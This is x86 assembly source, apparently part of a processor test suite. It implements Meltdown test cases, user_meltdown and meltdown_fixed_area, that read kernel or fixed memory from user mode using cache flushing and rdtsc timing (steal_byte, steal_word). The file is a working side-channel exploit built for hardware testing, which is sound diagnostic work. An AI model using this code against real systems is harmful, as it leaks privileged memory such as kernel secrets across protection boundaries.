/*
 * A processor that checks late (docs/late-checks.md), from a process: what the U/S bit protects can be read all the
 * same, what is not mapped cannot, and a segment limit is checked in time. See meltdown.S.
 */
#define PROBE           WINDOW
#define NEAR            50
#define WORD            USER_DATA + 0x100

        .macro MAP_PROBE
        movl    $(PAGES_PA + 0x67), VIRT(PT_USER_PA) + 0x100 * 4
        movl    $(PAGES_PA + 0x1067), VIRT(PT_USER_PA) + 0x101 * 4
        movl    $(PAGES_PA + 0x2067), VIRT(PT_USER_PA) + 0x102 * 4
        movl    $(PAGES_PA + 0x3067), VIRT(PT_USER_PA) + 0x103 * 4
        .endm

ATTACK  user_meltdown
        MAP_PROBE
        movl    VIRT(KERNEL_PAGE_PA), %eax
        GO_USER 1f
        USER_CODE
1:      movl    PARAMS + AP_SECRET_VA, %ebx
        call    steal_word
        movl    $VIRT(KERNEL_PAGE_PA), %ebx
        call    steal_word
        EXIT
        KERNEL_CODE

ATTACK  meltdown_fixed_area
        MAP_PROBE
        GO_USER 1f
        USER_CODE
1:      movl    $0, USER_DATA
2:      movl    USER_DATA, %eax
        cmpl    PARAMS + AP_FIXED_COUNT, %eax
        jae     3f
        movl    PARAMS + AP_FIXED(, %eax, 8), %ebx
        call    steal_word
        incl    USER_DATA
        jmp     2b
3:      EXIT

/* %ebx: an address. Reads 8 bytes there, and reports them. */
steal_word:
        movl    $0, USER_DATA + 8
1:      movl    USER_DATA + 8, %eax
        pushl   %ebx
        addl    %eax, %ebx
        call    steal_byte
        popl    %ebx
        testl   %eax, %eax
        js      2f
        movl    USER_DATA + 8, %edx
        movb    %al, WORD(%edx)
        incl    USER_DATA + 8
        cmpl    $7, %edx
        jb      1b
        movl    WORD, %eax
        REPORT  R_READ, %ebx, %eax
        movl    WORD + 4, %eax
        REPORT_HIGH %eax
        REPORTED
2:      ret

/* %ebx: an address. %eax: the byte there as far as can be told, or -1. */
steal_byte:
        movl    $PROBE, %esi
        xorl    %ecx, %ecx
1:      movl    %ecx, %eax
        shll    $6, %eax
        clflush (%esi, %eax)
        incl    %ecx
        cmpl    $256, %ecx
        jb      1b
        mfence
        TRYING
        movzbl  (%ebx), %eax            /* it faults here ... */
        shll    $6, %eax
        movzbl  (%esi, %eax), %eax      /* ... and this line is there now */
2:      jmp     2b
        DONE
        xorl    %ecx, %ecx
        orl     $-1, %edi
3:      rdtsc
        movl    %eax, %ebp
        movl    %ecx, %edx
        shll    $6, %edx
        movzbl  (%esi, %edx), %edx
        rdtsc
        subl    %ebp, %eax
        cmpl    $NEAR, %eax
        jae     4f
        testl   %edi, %edi
        jns     5f                      /* two lines: no cache at all, or it was not us */
        movl    %ecx, %edi
4:      incl    %ecx
        cmpl    $256, %ecx
        jb      3b
        movl    %edi, %eax
        ret
5:      movl    $-1, %eax
        ret
        KERNEL_CODE
